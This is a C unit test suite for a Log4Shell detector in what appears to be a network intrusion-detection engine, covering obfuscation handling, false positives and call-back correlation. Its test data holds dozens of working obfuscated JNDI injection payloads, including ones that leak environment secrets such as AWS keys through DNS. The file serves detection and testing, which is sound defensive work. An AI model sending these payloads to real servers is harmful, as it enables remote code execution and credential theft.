/* SPDX-License-Identifier: Apache-2.0
 *
 * Log4Shell: the obfuscations that were seen in the wild fold to one token,
 * what only looks like it does not, and call-backs are told.
 */
#include "detect_drive.h"

static void
request(double sec, const char *agent)
{
	at(KIND_HTTP, sec);
	addr(FIELD_SRC_IP, "198.51.100.7");
	addr(FIELD_DST_IP, "192.0.2.10");
	str(FIELD_HTTP_METHOD, "GET");
	str(FIELD_HTTP_URI, "/");
	str(FIELD_HTTP_PATH, "/");
	str(FIELD_HTTP_USER_AGENT, agent);
}

static unsigned
hits(const char *agent)
{
	again();
	request(0, agent);
	return hunt("log4shell");
}

static void
obfuscations(void **unused)
{
	static const char *const hit[] = {
		"${jndi:ldap://203.0.113.9:1389/a}",
		"${JNDI:LDAP://203.0.113.9/a}",
		"${jNdI:rMi://203.0.113.9/a}",
		"${jndi:ldaps://x.example/a}", "${jndi:dns://x.example/a}",
		"${jndi:nis://x.example}", "${jndi:nds://x.example}",
		"${jndi:corba://x.example}", "${jndi:iiop://x.example}",
		"${jndi:http://x.example/a}",
		"text before ${jndi:ldap://x.example/a} and behind",
		/* nested lookups that yield a letter */
		"${${::-j}ndi:ldap://x.example/a}",
		"${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}:"
		    "//x.example/a}",
		"${${::-j}ndi${::-:}ldap://x.example/a}",
		"${${lower:j}ndi:ldap://x.example/a}",
		"${${lower:j}${lower:n}${lower:d}i:${lower:ldap}://x.example}",
		"${${upper:j}${upper:n}${lower:d}i:l${lower:d}ap://x.example}",
		"${${lower:${lower:jndi}}:${lower:rmi}://x.example/a}",
		"${${lower:${upper:${lower:j}}}ndi:ldap://x.example/a}",
		"${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap"
		    "${env:BARFOO:-:}//x.example/a}",
		"${${env:NaN:-j}ndi:ldap://x.example/a}",
		"${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x.example/a}",
		"${j${main:\\k5:-Nd}i${spring:k5:-:}ldap://x.example/a}",
		"${j${sys:k5:-nD}${lower:i${web:k5:-:}}ldap://x.example/a}",
		"${j${::-nD}i${::-:}ldap://x.example/a}",
		"${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x.e/a}",
		"${${:-j}ndi:ldap://x.example/a}",
		"${jnd${upper:\xc4\xb1}:ldap://x.example/a}",
		"${base64:JHtqbmRpOmxkYXA6Ly94LmV4YW1wbGUvYX0=}",
		"${${a:-j}${a:-n}${a:-${a:-d}}i:ldap://x.example/a}",
		/* encodings, up to three deep */
		"%24%7Bjndi:ldap://x.example/a%7D",
		"$%7Bjndi:ldap://x.example/a}",
		"%2524%257Bjndi%3Aldap://x.example/a%257D",
		"%252524%25257Bjndi:ldap://x.example/a",
		"\\u0024\\u007bjndi:ldap://x.example/a}",
		"$\\u007Bjndi:ldap://x.example/a}",
		"\\x24\\x7bjndi:ldap://x.example/a}",
		"&#36;&#123;jndi:ldap://x.example/a}",
		"&#x24;&#x7B;jndi:ldap://x.example/a}",
		"&dollar;&lbrace;jndi:ldap://x.example/a&rbrace;",
		"$&lcub;jndi:ldap://x.example/a}",
		"%24%7B%24%7B%3A%3A-j%7Dndi:ldap://x.example/a%7D",
		"\\u0024{${lower:j}ndi:ldap://x.example/a}",
		/* lookups that leak, in the host part */
		"${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.x.example/a}",
		"${jndi:dns://${sys:java.version}.x.example}",
		/* cut off by the log */
		"${jndi:ldap://x.example/a",
		/* the localhost trick of CVE-2021-45046 */
		"${jndi:ldap://127.0.0.1#x.example:1389/a}",
		/* closing braces in front must not use anything up */
		"}}}}}}}}{\"a\":{\"b\":{}}}${${::-j}ndi:ldap://x.example/a}",
	};

	(void)unused;
	for (size_t i = 0; i < NITEMS(hit); i++) {
		if (hits(hit[i]) != 1)
			fail_msg("missed %s", hit[i]);
		assert_true(span_find_nocase(dr.found[0].message,
		    SPAN_LIT("${jndi:")) != SPAN_NPOS);
		assert_int_equal(dr.found[0].severity, SEV_MEDIUM);
	}
}

static void
misses(void **unused)
{
	static const char *const miss[] = {
		"${GDPR}", "${GDPR_CONSENT_755}", "${@phpinfo()}",
		"${@print(md5(1))}", "Mozilla/5.0", "jndi:ldap://x.example/a",
		"{jndi:ldap://x.example/a}", "$jndi:ldap://x.example/a",
		"$ {jndi:ldap://x.example/a}", "${jndi}", "${jnd:i}",
		"`${user.name}` and ${items.map(i => `<li>${i}</li>`)}",
		"const s = `${a ? 'x:-y' : b}`;", "${env:PATH}",
		"${lower:JNDI}:ldap", "${lower:jndi:ldap://x}",
		"https://example.org/?q=%24%7BBANNER_ID%7D&r=%7Bjndi%7D",
		"/nessus}", "${", "}", "$", "%", "\\u", "&#", "&#x;", "${}",
		"${::-", "%2", "\\u002", "${:-}", "${${${${",
		"${base64:!!!}", "${base64:Z290Y2hh}", "${date:}",
		"QUALYSTEST ${nope:-hello}", "price &dollar;{amount}",
	};

	(void)unused;
	for (size_t i = 0; i < NITEMS(miss); i++)
		if (hits(miss[i]) != 0)
			fail_msg("false alarm on %s: %.*s", miss[i],
			    (int)dr.found[0].message.len,
			    (const char *)dr.found[0].message.ptr);
}

static void
everywhere(void **unused)
{
	static const uint16_t fields[] = {
		FIELD_HTTP_URI, FIELD_HTTP_HEADERS, FIELD_HTTP_REFERER,
		FIELD_HTTP_COOKIE, FIELD_HTTP_XFF, FIELD_HTTP_HOST,
		FIELD_HTTP_USER, FIELD_HTTP_METHOD, FIELD_HTTP_QUERY,
		FIELD_HTTP_REQ_BODY
	};

	(void)unused;
	for (size_t i = 0; i < NITEMS(fields); i++) {
		again();
		at(KIND_HTTP, 0);
		str(fields[i], "a=${jndi:ldap://x.example/a}");
		assert_int_equal(hunt("log4shell"), 1);
		assert_true(says(0, field_name(fields[i])));
		assert_true(says(0, "somebody"));	/* no address known */
	}
	/* the response is not the attacker's */
	again();
	at(KIND_HTTP, 0);
	str(FIELD_HTTP_RESP_BODY, "${jndi:ldap://x.example/a}");
	assert_int_equal(hunt("log4shell"), 0);
}

/* In a long body, wherever it stands, whatever stands around it. */
static void
long_body(void **unused)
{
	static const char payload[] = "${${::-j}${lower:n}di:ldap://x.e/a}";
	static char body[60000];

	(void)unused;
	for (size_t at_byte = 0; at_byte < sizeof(body) - sizeof(payload);
	    at_byte += 1217) {
		again();
		for (size_t i = 0; i < sizeof(body); i++)
			body[i] = "{\"k\":{}},$"[i % 10];
		memcpy(body + at_byte, payload, sizeof(payload) - 1);
		at(KIND_HTTP, 0);
		bytes(FIELD_HTTP_REQ_BODY, span_of(body, sizeof(body)));
		if (hunt("log4shell") != 1)
			fail_msg("missed at byte %zu", at_byte);
	}
}

/* Input made to cost much ends, and soon. */
static void
costly(void **unused)
{
	static const char *const unit[] = {
		"${", "}", "${::-", "${${::-a}", "${:-}", "${lower:",
		"%25", "&#36;", "\\u0024\\u007b", "${x}", "${::-${"
	};
	static char body[65536];

	(void)unused;
	for (size_t u = 0; u < NITEMS(unit); u++) {
		size_t n = strlen(unit[u]);

		again();
		for (size_t i = 0; i < sizeof(body); i++)
			body[i] = unit[u][i % n];
		memset(body + sizeof(body) / 2, '}', sizeof(body) / 2);
		at(KIND_HTTP, 0);
		bytes(FIELD_HTTP_REQ_BODY, span_of(body, sizeof(body)));
		assert_int_equal(hunt("log4shell"), 0);
	}
}

static void
conn(double sec, const char *src, const char *dst, unsigned port)
{
	at(KIND_CONN, sec);
	addr(FIELD_SRC_IP, src);
	addr(FIELD_DST_IP, dst);
	num(FIELD_DST_PORT, port);
}

static void
call_back(void **unused)
{
	(void)unused;
	request(0, "${jndi:ldap://203.0.113.9:1389/a}");
	conn(0.5, "192.0.2.10", "203.0.113.9", 1389);
	assert_int_equal(hunt("log4shell"), 1);
	assert_int_equal(dr.found[0].severity, SEV_CRITICAL);
	assert_int_equal(dr.found[0].count, 1);
	assert_int_equal(dr.found[0].nevidence, 2);
	assert_true(says(0, "192.0.2.10 then called back to "
	    "203.0.113.9:1389 after 0.5 s"));
	ENTITY_IS(0, SRC_IP, "198.51.100.7");
	ENTITY_IS(0, HOST, "192.0.2.10");
}

static void
no_call_back(void **unused)
{
	(void)unused;
	/* other port, other address, the attacker itself, too late, before */
	request(100, "${jndi:ldap://203.0.113.9:1389/a}");
	conn(101, "192.0.2.10", "203.0.113.9", 443);
	conn(102, "192.0.2.10", "203.0.113.8", 1389);
	conn(103, "198.51.100.7", "203.0.113.9", 1389);
	conn(99, "192.0.2.10", "203.0.113.9", 1389);
	conn(161, "192.0.2.10", "203.0.113.9", 1389);
	assert_int_equal(hunt("log4shell"), 1);
	assert_int_equal(dr.found[0].severity, SEV_MEDIUM);
	assert_true(says(0, "no call-back was seen"));
}

static void
class_fetched(void **unused)
{
	(void)unused;
	request(0, "${jndi:ldap://203.0.113.9:1389/a}");
	conn(1, "192.0.2.10", "203.0.113.9", 1389);
	at(KIND_HTTP, 2);
	addr(FIELD_SRC_IP, "192.0.2.10");
	addr(FIELD_DST_IP, "203.0.113.9");
	str(FIELD_HTTP_METHOD, "GET");
	str(FIELD_HTTP_URI, "/Exploit.class?x");
	str(FIELD_HTTP_USER_AGENT, "Java/1.8.0_181");
	assert_int_equal(hunt("log4shell"), 1);
	assert_int_equal(dr.found[0].confidence, 99);
	assert_true(says(0, "fetched a Java class"));
}

static void
lookup(double sec, const char *name)
{
	at(KIND_DNS, sec);
	addr(FIELD_SRC_IP, "192.0.2.10");
	str(FIELD_DNS_QUERY, name);
}

static void
asked_the_dns(void **unused)
{
	(void)unused;
	request(0, "${jndi:dns://${sys:user.name}.x.example/a}");
	lookup(1, "tomcat.X.example");
	assert_int_equal(hunt("log4shell"), 1);
	assert_int_equal(dr.found[0].severity, SEV_HIGH);
	ENTITY_IS(0, DOMAIN, "x.example");
	again();
	request(0, "${jndi:ldap://x.example:1389/a}");
	lookup(1, "x.example");
	assert_int_equal(hunt("log4shell"), 1);
	assert_int_equal(dr.found[0].severity, SEV_HIGH);
	/* another name that only ends alike */
	again();
	request(0, "${jndi:ldap://x.example:1389/a}");
	lookup(1, "mailx.example");
	lookup(1, "example");
	assert_int_equal(hunt("log4shell"), 1);
	assert_int_equal(dr.found[0].severity, SEV_MEDIUM);
}

/* The address that the DNS gave is waited for as well. */
static void
asked_and_called(void **unused)
{
	struct value answer = { .type = VT_STR, .ptr = "203.0.113.77",
	    .len = 12 }, *list;

	(void)unused;
	request(0, "${jndi:ldap://x.example:1389/a}");
	lookup(1, "x.example");
	list = put(FIELD_DNS_ANSWERS, VT_LIST);
	list->ptr = &answer;
	list->len = 1;
	conn(2, "192.0.2.10", "203.0.113.77", 1390);	/* another port */
	conn(3, "192.0.2.10", "203.0.113.77", 1389);
	assert_int_equal(hunt("log4shell"), 1);
	assert_int_equal(dr.found[0].severity, SEV_CRITICAL);
	assert_true(says(0, "192.0.2.10 then called back to "
	    "x.example:1389 after 3.0 s"));
}

static void
many_pending(void **unused)
{
	(void)unused;
	for (unsigned i = 0; i < 300; i++)
		request(0.001 * i, "${jndi:ldap://203.0.113.9:1389/a}");
	assert_int_equal(hunt("log4shell"), 300);
}

/* Times at both ends of what int64_t holds, and none at all. */
static void
odd_times(void **unused)
{
	(void)unused;
	request(0, "${jndi:ldap://203.0.113.9:1389/a}");
	dr.ev[0].time = INT64_MIN + 1;
	request(0, "${jndi:ldap://203.0.113.9:1389/a}");
	dr.ev[1].time = INT64_MAX;
	request(0, "${jndi:ldap://203.0.113.9:1389/a}");
	dr.ev[2].time = TIME_NONE;
	conn(0, "192.0.2.10", "203.0.113.9", 1389);
	dr.ev[3].time = TIME_NONE;
	assert_int_equal(hunt("log4shell"), 3);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		T(obfuscations), T(misses), T(everywhere), T(long_body),
		T(costly), T(call_back), T(no_call_back), T(class_fetched),
		T(asked_the_dns), T(asked_and_called), T(many_pending), T(odd_times),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
